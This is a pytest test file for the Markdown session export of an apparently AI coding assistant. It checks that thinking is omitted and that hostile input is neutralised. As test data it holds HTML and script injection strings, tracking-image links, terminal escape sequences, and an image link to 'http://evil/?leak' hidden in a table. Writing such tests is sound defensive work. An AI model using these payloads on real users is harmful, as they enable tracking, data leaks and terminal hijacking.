"""A session as Markdown: all that matters is in it, and nothing in it acts on whoever reads it."""

import re
import stat
from datetime import datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from ossa.assistant.change import Change, FileChange, Hunk
from ossa.assistant.events import (
    Answering,
    Event,
    Failure,
    Notice,
    Proposed,
    Ran,
    Reviewed,
    StepFinished,
    StepStarted,
    Thinking,
    TurnFinished,
    TurnStarted,
)
from ossa.assistant.review import Decision
from ossa.assistant.session import SessionInfo
from ossa.assistant.verdict import Verdict
from ossa.tui.export import ExportError, harmless, markdown, save

WHEN = datetime(2026, 1, 2, 3, 4)
CHANGE = Change((FileChange("calc.py", "modified", (Hunk("h", 0, ("```\n",), ("b\n",)),)),))


def exported(*events: Event, title: str = "Mend the mean") -> str:
    return markdown(SessionInfo("id1", Path("id1.jsonl"), Path("/r"), title, WHEN, WHEN, 1, "tiny"), events)


def test_what_was_said_and_done_is_in_it() -> None:
    text = exported(
        TurnStarted("fix it\nplease"),
        Thinking("secret thoughts"),
        StepStarted("s", "run tests"),
        StepFinished("s", False, "1 failed", "output"),
        Answering("It is *wrong*:\n\n```python\nx"),
        Answering(" = 1\n```\n"),
        Proposed(CHANGE, Verdict("pytest", 2, 2, fixed=("t",))),
        Reviewed((Decision("h", True), Decision("i", False, "no _need_")), ("calc.py",), "c"),
        Notice("Something."),
        Ran("ls", 0, "calc.py"),
        Failure("Broken.", "--- a\n+b"),
        TurnFinished("applied", 2.0),
    )
    for part in (
        "# Mend the mean\n",
        "- from 2026-01-02 03:04 to 2026-01-02 03:04\n",
        "## 1\n\n> fix it\n> please\n",
        "- run tests: failed: 1 failed\n",
        "It is *wrong*:\n\n```python\nx = 1\n```\n",
        "````diff\n",
        "-```\n+b\n",
        "**1 file, +1 −1** – 2/2 passed · 1 fixed · 0 broken\n",
        "- hunks accepted: 1, rejected: 1\n- rejected because: no \\_need\\_\n- written: calc.py\n",
        "*Something.*\n",
        "```\n$ ls\n```\n\nexit code 0\n",
        "**Broken.**\n\n```diff\n--- a\n+b\n```\n",
        "*applied, 2.0 s*\n",
    ):
        assert part in text
    assert "secret" not in text and "output" not in text


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "a <img src=x onerror=y> b",
        "![p](http://tracker.example/p.png)",
        "![p][1]\n\n[1]: http://tracker.example/p.png",
        "```\ncode\n```\n<iframe src=x>",
        "`a` <b>` <i>",
        "~~~\n```\n~~~\n<b>",
        "<!-- hidden -->",
        "</details>",
        "\\![p](http://tracker.example/p.png)",
        "    <b>\n\n<b>",
        "\\`<b>`",
        "`x\n`<b>`",
        "- ```\n  <b>\n  ```\n<i>",
        "```a`b\n<b>\n",
        "```\n```~~~\n```\n<b>",
        "<pre>\n```\n</pre>\n<b>\n```\n<i>",
        "<b>" * 50,
        "> <b>\n<i>",
    ],
)
def test_neither_html_nor_pictures_get_through(text: str) -> None:
    step = (StepStarted("s", "run"), StepFinished("s", True, "ok"))
    told = exported(TurnStarted(text), Answering(text), *step, Answering(text), title=text)
    page = MarkdownIt("commonmark", {"html": True}).render(told)
    tags = {tag.lower() for tag in re.findall(r"<\s*/?\s*([a-zA-Z!]+)", page)}
    assert tags <= {"h", "p", "ul", "li", "hr", "blockquote", "pre", "code", "em", "strong", "a"}, page


def test_code_and_links_stay_as_they_are() -> None:
    text = "Use `<b>` and <https://example.org>, [so](https://example.org):\n\n```html\n<b>![x](y)</b>\n```"
    assert harmless(text) == text


def test_nothing_in_it_acts_on_a_terminal() -> None:
    text = exported(TurnStarted("\x1b]0;owned\x07a\x1b[2J"), Answering("b\r\x9b31m\x00"), title="\x1b[31mred")
    assert "\x1b" not in text and "\x9b" not in text and "\x00" not in text and "owned" not in text


def test_a_code_block_without_an_end_is_closed() -> None:
    assert harmless("```py\nx") == "```py\nx\n```"
    assert harmless("~~~~\nx\n~~~~") == "~~~~\nx\n~~~~"


@given(st.text(st.sampled_from("`~<b>/!-[]()\\ \n>#x1.\t"), max_size=60))
def test_whatever_is_written_nothing_gets_through(text: str) -> None:
    page = MarkdownIt("commonmark", {"html": True}).render(harmless(text) + "\n\n---\n")
    assert not re.search(r"<(?:b|/b|img|!)", re.sub(r"<(/?blockquote|br ?/)", "", page)), page


def test_it_is_saved_for_its_owner_and_overwrites_nothing(tmp_path: Path) -> None:
    file = tmp_path / "deep/a.md"
    save("one\ud800", file)
    assert file.read_text() == "one?" and stat.S_IMODE(file.stat().st_mode) == 0o600
    with pytest.raises(ExportError, match="is there already"):
        save("two", file)
    assert file.read_text() == "one?"
    with pytest.raises(ExportError, match="cannot be written"):
        save("x", file / "below/c.md")


def test_a_picture_does_not_hide_in_a_table() -> None:
    text = "| a | b |\n|---|---|\n| `x | ![p](http://evil/?leak) ` |\n"
    parser = MarkdownIt("commonmark").enable("table")
    assert any(c.type == "image" for token in parser.parse(text) for c in token.children or ())
    shown = parser.parse(harmless(text))
    assert not [c for token in shown for c in token.children or () if c.type == "image"]
